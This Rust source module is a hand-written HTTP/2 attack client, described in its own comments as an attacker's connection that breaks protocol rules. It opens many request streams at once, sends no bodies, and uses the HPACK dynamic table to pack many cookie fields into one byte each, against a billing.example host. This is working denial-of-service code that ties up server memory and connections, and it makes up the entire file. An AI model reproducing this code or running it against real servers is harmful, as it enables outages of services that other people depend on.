//! HTTP/2 frames, written by hand: a client that keeps no rule of the protocol that it can break.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::sync::Mutex;
use tokio::task::JoinHandle;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;
/// The server may answer as much as it likes: its answers are not what fills it.
const WINDOW_BYTES: u32 = 0x7fff_0000;
/// The first entry of HPACK's dynamic table.
const FIRST_DYNAMIC_INDEX: u8 = 0x80 | 62;

/// What the server answered.
#[derive(Debug, Default)]
pub(super) struct Answers {
    pub(super) answered: AtomicU64,
    pub(super) reset: AtomicU64,
}

/// One connection of the attacker.
pub(super) struct Connection {
    writer: Arc<Mutex<OwnedWriteHalf>>,
    reader: JoinHandle<()>,
    next_stream: u32,
}

impl Drop for Connection {
    fn drop(&mut self) {
        self.reader.abort();
    }
}

impl Connection {
    /// Begins HTTP/2 on a connection, and answers what keeps it open.
    pub(super) async fn begin(stream: TcpStream, answers: Arc<Answers>) -> std::io::Result<Self> {
        let (reader, mut writer) = stream.into_split();
        let mut bytes = PREFACE.to_vec();
        frame(&mut bytes, SETTINGS, 0, 0, &[]);
        frame(&mut bytes, WINDOW_UPDATE, 0, 0, &WINDOW_BYTES.to_be_bytes());
        writer.write_all(&bytes).await?;
        let writer = Arc::new(Mutex::new(writer));
        let reader = tokio::spawn(read(reader, Arc::clone(&writer), answers));
        Ok(Self {
            writer,
            reader,
            next_stream: 1,
        })
    }

    /// Begins so many requests at once, and sends the body of none.
    pub(super) async fn open(&mut self, count: usize, request: &Request) -> std::io::Result<()> {
        let mut bytes = Vec::new();
        for _ in 0..count {
            let head = if self.next_stream == 1 {
                &request.first
            } else {
                &request.further
            };
            frame(&mut bytes, HEADERS, END_HEADERS, self.next_stream, head);
            self.next_stream += 2;
        }
        self.writer.lock().await.write_all(&bytes).await
    }
}

/// The head of a request, in HPACK: what the first one of a connection writes into the table is one
/// byte for each further one.
pub(super) struct Request {
    first: Vec<u8>,
    further: Vec<u8>,
}

impl Request {
    /// A POST to `path`, with so many cookie fields.
    pub(super) fn post(path: &str, content_type: &str, cookies: usize) -> Self {
        const METHOD_POST: u8 = 0x83;
        const SCHEME_HTTP: u8 = 0x86;
        const AUTHORITY: &[u8] = &[0x01];
        const PATH: &[u8] = &[0x04];
        const CONTENT_TYPE: &[u8] = &[0x0f, 0x10];
        const COOKIE_KEPT: &[u8] = &[0x60];
        let mut head = vec![METHOD_POST, SCHEME_HTTP];
        literal(&mut head, AUTHORITY, "billing.example");
        literal(&mut head, PATH, path);
        literal(&mut head, CONTENT_TYPE, content_type);
        let (mut first, mut further) = (head.clone(), head);
        if cookies > 0 {
            literal(&mut first, COOKIE_KEPT, "a=b");
            first.extend(std::iter::repeat_n(FIRST_DYNAMIC_INDEX, cookies - 1));
            further.extend(std::iter::repeat_n(FIRST_DYNAMIC_INDEX, cookies));
        }
        Self { first, further }
    }
}

fn literal(head: &mut Vec<u8>, name: &[u8], value: &str) {
    head.extend_from_slice(name);
    // The values are shorter than HPACK's 127 bytes for a length of one byte.
    head.push(u8::try_from(value.len()).unwrap_or(0));
    head.extend_from_slice(value.as_bytes());
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    bytes.extend_from_slice(length.get(1..).unwrap_or_default());
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// Reads frames until the connection ends.
async fn read(
    mut reader: OwnedReadHalf,
    writer: Arc<Mutex<OwnedWriteHalf>>,
    answers: Arc<Answers>,
) {
    let mut head = [0; 9];
    while reader.read_exact(&mut head).await.is_ok() {
        let [a, b, c, kind, flags, ..] = head;
        let length = u32::from_be_bytes([0, a, b, c]);
        let mut payload = vec![0; usize::try_from(length).unwrap_or(0)];
        if reader.read_exact(&mut payload).await.is_err() {
            return;
        }
        match kind {
            HEADERS => {
                answers.answered.fetch_add(1, Ordering::Relaxed);
            }
            RST_STREAM => {
                answers.reset.fetch_add(1, Ordering::Relaxed);
            }
            SETTINGS | PING if flags & ACK == 0 => {
                let mut bytes = Vec::new();
                let payload: &[u8] = if kind == PING { &payload } else { &[] };
                frame(&mut bytes, kind, ACK, 0, payload);
                if writer.lock().await.write_all(&bytes).await.is_err() {
                    return;
                }
            }
            _ => {}
        }
    }
}
